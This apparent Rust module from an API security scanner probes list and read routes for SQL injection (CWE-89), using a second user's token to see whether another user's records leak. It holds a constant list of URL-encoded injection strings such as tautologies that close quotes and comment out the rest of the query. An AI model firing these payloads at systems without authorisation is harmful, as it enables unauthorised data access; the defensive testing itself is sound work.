//! The parameters that a document describes: each with what closes the text of a query and makes everything true (CWE-89), and with the words that it
//! takes, which may let in what is put away or everybody's. It only reads.

use futures::future::try_join_all;

use crate::checks::{Case, Context};
use crate::http::{Probe, Trouble};
use crate::run::{Evidence, Finding};
use crate::target::{Parameter, Route};

use super::listing::{case, leak_free};
use super::page::Page;
use super::stage::{Victim, piece};

/// Texts, the most telling first.
pub(super) const CLOSED: [&str; 6] = [
    "%27%20OR%20%271%27=%271",
    "%25%27%20OR%20%271%27%20LIKE%20%271",
    "%25%27)%20OR%201=1%20--%20",
    "%25",
    "%27)%20OR%201=1%20--%20",
    "%25%27))%20OR%201=1%20--%20",
];
/// The same where no text is to be closed: behind a number or a flag.
const TRUE: [&str; 2] = ["1%20OR%201=1", "0)%20OR%20(1=1"];

/// Texts that each parameter is asked with.
const EACH: usize = 2;
/// Parameters of one route that are asked.
const PARAMETERS: usize = 4;
/// Words of one parameter that are asked.
const WORDS: usize = 4;
/// Routes that are asked.
const ROUTES: usize = 8;

/// What a parameter is asked with. What takes a text may stand in a query without quotes as well.
fn texts(cx: &Context, parameter: &Parameter) -> Vec<&'static str> {
    let closed = if parameter.is_text { cx.telling(CLOSED, EACH) } else { Vec::new() };
    [closed, cx.telling(TRUE, 1)].concat()
}

/// B's list by each parameter that the document names for it.
pub(super) fn of_list(cx: &Context, page: &Page) -> Result<Vec<Case>, Trouble> {
    let b = cx.b()?;
    let asking = |parameter: &Parameter, text: &str| page.with(&format!("{}={text}", parameter.name));
    let known = cx.telling(&cx.target.routes.of_list, PARAMETERS);
    let closed = known.into_iter().flat_map(|parameter| texts(cx, parameter).into_iter().map(move |text| asking(parameter, text)));
    let closed = closed.map(|query| case(cx, b, &query).of_an_odd_form());
    let worded = cx.target.routes.of_list.iter().filter(|parameter| !parameter.words.is_empty());
    let worded = cx.telling(worded, PARAMETERS).into_iter();
    let worded = worded.flat_map(|parameter| parameter.words.iter().take(WORDS).map(move |word| asking(parameter, word)));
    Ok(closed.chain(worded.map(|query| case(cx, b, &query))).collect())
}

/// B on further routes, by each parameter of their queries and each sample in their paths. What shows A's object without that is told by others.
pub(super) async fn of_routes(cx: &Context, victim: &Victim) -> Result<Vec<Evidence>, Trouble> {
    let routes = cx.target.routes.all.iter().filter(|route| route.reads() && !route.takes_id() && !cx.target.is_shared(route));
    let asked = routes.map(|route| (route, paths(cx, route))).filter(|(_, paths)| !paths.is_empty()).collect();
    let (asked, _) = cx.some_of(asked, ROUTES);
    let pieces = try_join_all(asked.into_iter().map(|(route, paths)| async move { shown(cx, victim, route, paths).await })).await?;
    Ok(pieces.concat())
}

/// The paths of one route with something that closes a query in each place that takes a text.
fn paths(cx: &Context, route: &Route) -> Vec<String> {
    let of_b = filling(cx);
    let of_query = route.parameters.iter().take(PARAMETERS).flat_map(|parameter| {
        texts(cx, parameter).into_iter().map(|text| route.asking(("1", of_b), &parameter.name, text)).collect::<Vec<_>>()
    });
    let of_words = route.parameters.iter().filter(|parameter| !parameter.words.is_empty()).take(PARAMETERS);
    let of_words = of_words.flat_map(|parameter| {
        parameter.words.iter().take(WORDS).map(|word| route.asking(("1", of_b), &parameter.name, word)).collect::<Vec<_>>()
    });
    let of_path = route.placeholders().map(|name| route.with_sample(name, CLOSED[0]).filled("1", of_b));
    of_query.chain(of_words).chain(of_path).collect()
}

/// Whom paths name: B.
fn filling(cx: &Context) -> &str {
    cx.users.b.as_ref().and_then(|b| b.subject.as_deref()).unwrap_or("me")
}

async fn shown(cx: &Context, victim: &Victim, route: &Route, paths: Vec<String>) -> Result<Vec<Evidence>, Trouble> {
    let token = &cx.b()?.token;
    let asked = paths.iter().map(async |path| cx.once(&Probe::get(path).bearer(token)).await);
    let answers = try_join_all(asked).await?;
    let pieces =
        answers.iter().zip(&paths).map(|(answer, path)| piece(answer, format!("B: GET {path}"), leak_free(victim, answer)));
    let pieces: Vec<_> = pieces.collect();
    let leaks = pieces.iter().any(|piece| piece.finding == Finding::Broken);
    let plain = Probe::get(route.filled("1", filling(cx))).bearer(token);
    if leaks && victim.is_shown_in(&cx.once(&plain).await?) { Ok(Vec::new()) } else { Ok(pieces) }
}
